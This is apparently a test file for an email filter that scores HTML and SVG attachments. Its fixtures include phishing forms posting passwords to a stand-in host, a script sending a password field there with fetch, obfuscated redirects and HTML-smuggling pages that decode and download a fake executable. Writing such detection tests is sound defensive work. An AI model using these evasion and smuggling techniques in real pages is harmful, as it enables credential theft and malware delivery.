/** Attached pages: what honest senders attach costs less than 3, and what asks, hides or goes on by itself is found. */
import { describe, expect, test } from 'vitest'
import { attachments } from '../../../../src/filters/content/attachments/attachments.ts'
import { message } from '../../../../src/testing/message.ts'
import { probe } from '../../../../src/testing/probe.ts'
import { zip } from '../../../archives/build.ts'

const found = async (filename: string, content: string | Buffer) => {
  const sent = message({ text: 'Hello\n', attachments: [{ filename, content, type: 'application/octet-stream' }] })
  const findings = await probe(attachments(), {
    reversePath: 'alice@example.org',
    forwardPaths: ['bob@example.net'],
    message: sent,
  })
  return {
    rules: findings.map(({ rule }) => rule?.replace('attachments/', '')),
    points: findings.reduce((sum, { points = 0 }) => sum + points, 0),
  }
}

const page = (body: string, head = ''): string => `<!doctype html><html><head>${head}</head><body>${body}</body></html>`
const noise = (length: number): string =>
  Array.from({ length }, (_, at) => String.fromCharCode(33 + ((at * at * 7 + at * 31) % 90)))
    .join('')
    .replace(/[<>&"'\\`/]/g, 'x')
const cipher = Buffer.from(noise(3000)).toString('base64')
const library = `/*! charts v3 */!function(t,e){${Array.from(
  { length: 4000 },
  (_, at) => `t.f${at}=function(e,n){return e&&n?e[${at}]+n:this.x${at}||0};`,
).join(
  '',
)}t.save=function(b,n){var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([b]));a.download=n;a.click()};t.run=function(s){return atob(s)}}(window,1)`

describe('an honest page costs less than 3', () => {
  test.for<readonly [what: string, name: string, content: string]>([
    [
      'a statement that its bank opens',
      'securedoc.html',
      page(
        `<form action="https://res.example.org/open" method="post"><input type=hidden name=m value="${cipher}"><input type=password name=p><input type=submit></form><script>document.forms[0].p.focus()</script>`,
      ),
    ],
    [
      'a statement that the provider of the bank opens',
      'securedoc_20261129T101112.html',
      page(
        `<p>You have received a Secure Message.</p><form name=f action="https://res.cisco.com/websafe/pswdForm" method=post><input type=hidden name=payload value="${cipher}"><input type=password name=pwd></form><script>function go(){document.f.submit()}</script><button onclick="go()">Open</button>`,
      ),
    ],
    [
      'a message behind a button that posts it to the provider',
      'SecureMessageAtt.html',
      page(
        `<form action="https://securemail.example-bank.pphosted.com/formpostdir/securereader" method=post><input type=hidden name=msg value="${cipher}"><input type=submit value="Click to read message"></form>`,
      ),
    ],
    [
      'a report with scripts',
      'coverage.html',
      page(
        '<input type=search onkeyup="find(this.value)"><table><tr onclick="toggle(this)"><td>ok</table>',
        '<script>function toggle(x){x.classList.toggle("open");document.getElementById("d").innerHTML=x.title}</script>',
      ),
    ],
    [
      'a chart with its library and its numbers',
      'chart.html',
      page(
        `<div id=c></div><script>Charts.newPlot("c",[{x:{dtype:"f8",bdata:"${cipher.repeat(20)}"}}])</script>`,
        `<script>${library}</script>`,
      ),
    ],
    [
      'a chart with its library from elsewhere',
      'chart.html',
      page(
        '<div id=c></div><script>Plotly.newPlot("c",[{y:[1,2,3]}])</script>',
        '<script src="https://cdn.plot.ly/plotly-3.0.1.min.js"></script>',
      ),
    ],
    [
      'a report that holds its data as an archive for its library',
      'index.html',
      page(
        `<div id=root></div><script>window.reportBase64="data:application/zip;base64,${zip([{ name: 'report.json', data: '{}' }]).toString('base64')}"</script>`,
        `<script type=module>${library.repeat(2)}</script>`,
      ),
    ],
    [
      'a report that exports its table',
      'report.html',
      page(
        '<table><tr><td>1</td></tr></table><button onclick="save()">CSV</button>',
        '<script>function save(){var b=new Blob([rows.join("\\n")],{type:"text/csv"});var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="table.csv";a.click()}</script>',
      ),
    ],
    [
      'a saved page with what its site counts visits by',
      'article.html',
      page(
        `<p>${'An article about larches. '.repeat(40)}</p><form action="/search"><input name=q></form><a href="javascript:void(0)" onclick="share()">Share</a>`,
        `<script>var h=("https:"==document.location.protocol)?"https://ssl.":"http://www.";document.write(unescape("%3Cscript src='"+h+"google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));function login(){window.location.href="https://www.news.example/login"}</script>`,
      ),
    ],
    [
      'an invoice with a picture in it',
      'invoice-2231.html',
      page(
        `<img src="data:image/png;base64,${cipher}"><table><tr><td>Larch boards<td>120.00</table><a href="https://pay.example.org/i/2231">Pay</a><a href="javascript:window.print()">Print</a>`,
      ),
    ],
    [
      'a drawing with the link of its program',
      'sketch.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><switch><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">Door</div></foreignObject><text>Door</text></switch><switch><g/><a xlink:href="https://www.diagrams.net/doc/faq/svg-export-text-problems"><text>Text is not SVG</text></a></switch></svg>',
    ],
    [
      'a logo with an animation',
      'logo.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><style>.a{fill:red}</style><path d="M0 0h9v9"><animate attributeName="opacity" from="0" to="1" dur="1s"/></path><image href="data:image/png;base64,iVBORw0KGgo="/></svg>',
    ],
    [
      'a diagram with links to the author’s site',
      'services.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><a href="https://wiki.example.org/db"><text>DB</text></a></svg>',
    ],
  ])('%s', async ([, name, content]) => {
    expect((await found(name, content)).points).toBeLessThan(3)
  })

  test('a page that decrypts itself with a password costs less than 6, and is named so', async () => {
    const { rules, points } = await found(
      'statement.html',
      page(
        `<input type=password id=p><button onclick="open_()">Open</button><script>var data="${cipher}";async function open_(){var k=await crypto.subtle.importKey("raw",new TextEncoder().encode(p.value),"PBKDF2",false,["deriveKey"]);var b=Uint8Array.from(atob(data),c=>c.charCodeAt(0));var t=await crypto.subtle.decrypt({name:"AES-GCM",iv:b.slice(0,12)},k,b.slice(12));document.open();document.write(new TextDecoder().decode(t))}</script>`,
      ),
    )
    expect(rules).toContain('encrypted')
    expect(rules).not.toContain('smuggling')
    expect(points).toBeLessThan(6)
  })
})

const elsewhere = 'https://evil.example.com/p.php'
describe('M14 a page that asks is found', () => {
  test.for<readonly [what: string, name: string, content: string]>([
    ['with a type in entities', 'a.html', `<form action="${elsewhere}"><input type="pass&#119;ord">`],
    ['with a type on two lines', 'a.html', `<form action=${elsewhere}><input\nname=x\ntype =\n'PASSWORD'>`],
    [
      'as XHTML with a prefix',
      'a.xhtml',
      `<h:html xmlns:h="x"><h:form action="${elsewhere}"><h:input type="password"/></h:form></h:html>`,
    ],
    [
      'without a form',
      'a.html',
      `<input type=password id=p><script>fetch("${elsewhere}",{method:"POST",body:p.value})</script>`,
    ],
    ['by a name', 'a.html', `<form action="${elsewhere}"><input name=user><input name="cvv">`],
    ['in another language', 'a.html', `<form action="${elsewhere}"><input placeholder="パスワード">`],
    ['hidden by a style', 'a.html', `<form action="${elsewhere}"><input style="-webkit-text-security:disc">`],
    [
      'in a drawing',
      'a.svg',
      `<svg><foreignObject><form action="${elsewhere}"><input type="password"/></form></foreignObject></svg>`,
    ],
    [
      'in a frame',
      'a.html',
      `<iframe srcdoc="&lt;form action=&quot;${elsewhere}&quot;&gt;&lt;input type=password&gt;"></iframe>`,
    ],
    [
      'in a data: URL',
      'a.html',
      `<embed src="data:text/html;base64,${Buffer.from(`<form action="${elsewhere}"><input type=password>`).toString('base64')}">`,
    ],
    [
      'written by a script',
      'a.html',
      `<script>document.write('<fo'+'rm action="${elsewhere}"><input type="pass'+'word">')</script>`,
    ],
    [
      'that is decoded',
      'a.html',
      `<div id=a></div><script>a.innerHTML=atob("${Buffer.from(`<form action="${elsewhere}"><input type=password>`).toString('base64')}")</script>`,
    ],
    [
      'by a button with a target of its own',
      'a.html',
      `<form action="https://www.example.org/"><input type=password><button formaction="${elsewhere}">Go</button></form>`,
    ],
    ['after a base', 'a.html', '<base href="https://evil.example.com/"><form action="p.php"><input name=mail>'],
  ])('%s', async ([, name, content]) => {
    for (const bytes of [Buffer.from(content), Buffer.from(`\ufeff${content}`, 'utf16le')])
      expect((await found(name, bytes)).rules).toContain('page-form')
    expect((await found('a.zip', zip([{ name, data: Buffer.from(content) }]))).rules).toContain('page-form')
  })
})

describe('M14 a page that goes on by itself or hides its code is found', () => {
  test.for<readonly [what: string, name: string, content: string]>([
    [
      'a prefix',
      'a.svg',
      `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>location="${elsewhere}"</s:script></s:svg>`,
    ],
    ['CDATA', 'a.svg', `<svg><script><![CDATA[location="${elsewhere}"]]></script></svg>`],
    ['entities in a script', 'a.svg', `<svg><script>l&#111;cation="${elsewhere}"</script></svg>`],
    [
      'entities that the picture declares',
      'a.svg',
      `<!DOCTYPE svg [<!ENTITY u "${elsewhere}">]><svg><script>location="&u;"</script></svg>`,
    ],
    ['a handler', 'a.svg', `<svg onload="location='${elsewhere}'"/>`],
    [
      'a handler that an animation sets',
      'a.svg',
      `<svg><rect><set attributeName="onmouseover" to="location='${elsewhere}'"/></rect></svg>`,
    ],
    [
      'a link to a script',
      'a.svg',
      '<svg xmlns:q="http://www.w3.org/1999/xlink"><a q:href="java&#10;script:x()"><text>x</text></a></svg>',
    ],
    [
      'a script that ends in its tag',
      'a.svg',
      `<svg><script href="https://evil.example.com/x.js"/><rect onload="x()"/></svg>`,
    ],
    ['a refresh without a unit', 'a.html', `<meta content="0;${elsewhere}" http-equiv=refresh>`],
    ['a refresh to data', 'a.html', '<meta http-equiv=refresh content="0;url=data:text/html,<script>x()</script>">'],
    [
      'a form that sends itself',
      'a.html',
      `<form action="${elsewhere}" method=post><input type=hidden name=a value=b></form><script>document.forms[0].submit()</script>`,
    ],
    [
      'code in escapes',
      'a.html',
      `<script>eval("${[...`top.location.href="${elsewhere}"`].map(c => `\\x${c.charCodeAt(0).toString(16)}`).join('')}")</script>`,
    ],
    [
      'code in character codes',
      'a.html',
      `<script>Function(String.fromCharCode(${[...`top.location.href="${elsewhere}"`].map(c => c.charCodeAt(0)).join(',')}))()</script>`,
    ],
    ['a page that is all of another', 'a.html', `<iframe src="${elsewhere}" style="width:100%;height:100%"></iframe>`],
    [
      'a page whose code is elsewhere',
      'a.html',
      '<div id=root></div><script src="https://evil.example.com/a.js"></script>',
    ],
  ])('by %s', async ([, name, content]) => {
    for (const bytes of [Buffer.from(content), Buffer.from(`\ufeff${content}`, 'utf16le')])
      expect((await found(name, bytes)).rules).toContain('page-script')
  })
})

const packed = zip([{ name: 'order.exe', data: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400, 7)]) }]).toString(
  'base64',
)
const save =
  "var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='order.zip';a.click()"
describe('M14 a page that assembles a file is found', () => {
  test.for<readonly [what: string, content: string]>([
    ['from one text', `<script>var u=atob("${packed}");${save}</script>`],
    [
      'from pieces',
      `<script>var d='';${packed
        .match(/.{1,40}/g)
        ?.map(piece => `d+='${piece}';`)
        .join('\n')}var u=window['at'+'ob'](d);${save}</script>`,
    ],
    ['from a hidden element', `<div id=d hidden>${packed}</div><script>var u=atob(d.innerText);${save}</script>`],
    ['from an attribute', `<b id=d data-x="${packed}"></b><script>var u=atob(d.dataset.x);${save}</script>`],
    [
      'from a text from behind',
      `<script>var d="${[...packed].reverse().join('')}";var u=atob([...d].reverse().join(''));${save}</script>`,
    ],
    [
      'from hex',
      `<script>var d="${Buffer.from(packed, 'base64').toString('hex')}",u=new Uint8Array(d.match(/../g).map(x=>parseInt(x,16)));${save}</script>`,
    ],
    ['in a link', `<a href="data:application/zip;base64,${packed}" download=order.zip>Order</a>`],
    [
      'with functions whose names it builds',
      `<script>var u=self[['a','t','o','b'].join('')]("${packed}");self['URL']['create'+'ObjectURL'](new self['Bl'+'ob']([u]))</script>`,
    ],
    [
      'as a page',
      `<script>document.write(unescape("${[...page(`<h1>Sign in</h1><p>${'x'.repeat(60)}`)].map(c => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}"))</script>`,
    ],
    ['as code', `<script>eval(atob("${Buffer.from(`var k=1;${'go(k);'.repeat(60)}`).toString('base64')}"))</script>`],
  ])('%s', async ([, content]) => {
    const { rules, points } = await found('statement.html', page(content))
    expect(rules).toContain('smuggling')
    expect(points).toBeGreaterThanOrEqual(6)
  })
})
